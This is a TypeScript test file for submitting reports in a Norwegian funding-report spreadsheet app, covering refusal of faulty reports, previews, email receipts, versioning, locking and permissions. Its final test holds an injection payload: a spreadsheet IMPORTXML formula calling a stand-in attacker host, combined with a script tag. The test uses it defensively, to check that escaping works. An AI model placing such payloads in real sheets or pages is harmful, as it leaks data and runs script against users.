// Verb «submit» over HTTP: refused with the list of what stops it, kept with its receipt, told once.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { mendFaults } from './mend.ts';
import { type TestRound, caseWorker, fosen, openTestRound, seedOf } from './round.ts';

const tab = 'Behov Fosen';
const key = { county: 'trondelag', year: 2026 };
let round: TestRound;
const report = () => round.functions.wiring.world.store.transact(key, (tx) => tx.get('report', 'Fosen'));
const receipts = () => round.inbox.list().filter(({ subject }) => subject.includes('Fosen'));

beforeAll(async () => {
  round = await openTestRound();
});
afterAll(() => round.close());

describe('a report with faults', () => {
  it.each([
    ['when the menu asks before it sends', { preview: true }],
    ['when it is sent', {}],
  ])('is refused %s, with every thing that stops it at its cell', async (_, more) => {
    round.change({
      updateCells: {
        range: { sheetId: round.sheetId(tab), startRowIndex: 1, endRowIndex: 20 },
        fields: 'note',
      },
    });
    const { status, body } = await round.call('submit', tab, fosen, more);
    expect(round.note(tab, 2, 'end')).toContain('Slutt V26 er før start H26');
    expect(status).toBe(409);
    expect(body['type']).toBe('urn:innstilling:notReady');
    expect(body['lines']).toHaveLength(2);
    expect(String(body['detail'])).toMatch(/J\d+: Må rettes\. Slutt V26 er før start H26/);
    expect(String(body['detail'])).toMatch(/H\d+: Må rettes\. Partner mangler/);
  });
  it('keeps nothing of it and sends nothing', async () => {
    expect(await report()).toBeUndefined();
    expect(receipts()).toHaveLength(0);
  });
});

describe('a report without faults', () => {
  beforeAll(() => mendFaults(round, seedOf(), 'Fosen'));

  it('is told before it is sent what goes out, to how many, and nothing happens', async () => {
    const { status, body } = await round.call('submit', tab, fosen, { preview: true });
    expect([status, body['title']]).toEqual([200, 'Sende behovsmeldingen?']);
    expect(body['message']).toContain('Fosen: 5 tiltak, søkt 1\u00a0330\u00a0000\u00a0kr');
    expect(body['message']).toContain('1 e-post sendes, til 1 mottaker.');
    expect(await report()).toBeUndefined();
    expect(receipts()).toHaveLength(0);
  });
  it('is submitted, and its rows say so', async () => {
    const { status, body } = await round.call('submit', tab, fosen);
    expect([status, body['title']]).toEqual([200, 'Sendt inn']);
    expect(round.shown(tab, 1, 'status')).toBe('Sendt inn');
    expect(await report()).toMatchObject({ state: 'submitted', version: 1, submittedBy: fosen });
  });
  it('gives the network one receipt with amounts, in text and HTML', () => {
    const [receipt, ...more] = receipts();
    expect(more).toHaveLength(0);
    expect(receipt?.to).toEqual([fosen]);
    expect(receipt?.text).toContain('5 tiltak, søkt 1\u00a0330\u00a0000\u00a0kr');
    expect(receipt?.html).toContain('<html lang="nb">');
    expect(receipt?.html).toContain('1\u00a0330\u00a0000\u00a0kr');
  });
  it('is noticed when it is sent again unchanged: no new version, no second mail', async () => {
    const { body } = await round.call('submit', tab, fosen);
    expect(body['title']).toBe('Allerede sendt inn');
    expect(round.inbox.arrivals()).toBe(1);
    expect((await report())?.version).toBe(1);
  });
  it('is locked: a change made all the same is marked, does not count, and is not sent', async () => {
    round.type(tab, 1, { measure: 'Annet navn' });
    await round.call('check', tab, fosen);
    expect(round.shown(tab, 1, 'status')).toBe('Endret etter innsending');
    const { status, body } = await round.call('submit', tab, fosen);
    expect([status, body['type']]).toEqual([409, 'urn:innstilling:alreadySubmitted']);
    expect(body['detail']).toContain('Be saksbehandleren returnere den');
    expect((await report())?.version).toBe(1);
    expect(receipts()).toHaveLength(1);
  });
  it('is sent as version 2 when it has been returned, and version 1 is kept', async () => {
    await round.call('return', tab, caseWorker, { reason: 'Rett navnet.' });
    await round.call('submit', tab, fosen);
    expect((await report())?.version).toBe(2);
    const versions = await round.functions.wiring.world.store.transact(key, async (tx) => [
      await tx.list('submittedRow', 'Fosen/1'),
      await tx.list('submittedRow', 'Fosen/2'),
    ]);
    expect(versions.map((rows) => rows.map(({ cells }) => cells['measure']).includes('Annet navn'))).toEqual([
      false,
      true,
    ]);
  });
  it('may be sent only by the network itself', async () => {
    const { status, body } = await round.call('submit', tab, caseWorker);
    expect(status).toBe(403);
    expect(body['detail']).toContain('nettverkets koordinator');
  });
});

describe('text that people typed', () => {
  it('is text in the mail and in the sheet, never HTML, header or formula', async () => {
    const hostile = '=IMPORTXML("http://evil.example")<script>alert(1)</script>';
    await round.call('return', tab, caseWorker, { reason: '<b>Se over</b>' });
    expect(receipts()[0]?.html).toContain('&#60;b&#62;Se over');
    round.type(tab, 1, { measure: hostile });
    await round.call('submit', tab, fosen);
    const [latest] = receipts();
    expect(latest?.html).not.toContain('<script>');
    expect(latest?.html).toContain('&#60;script&#62;');
    expect(round.shown(tab, 1, 'measure')).toBe(hostile);
  });
});
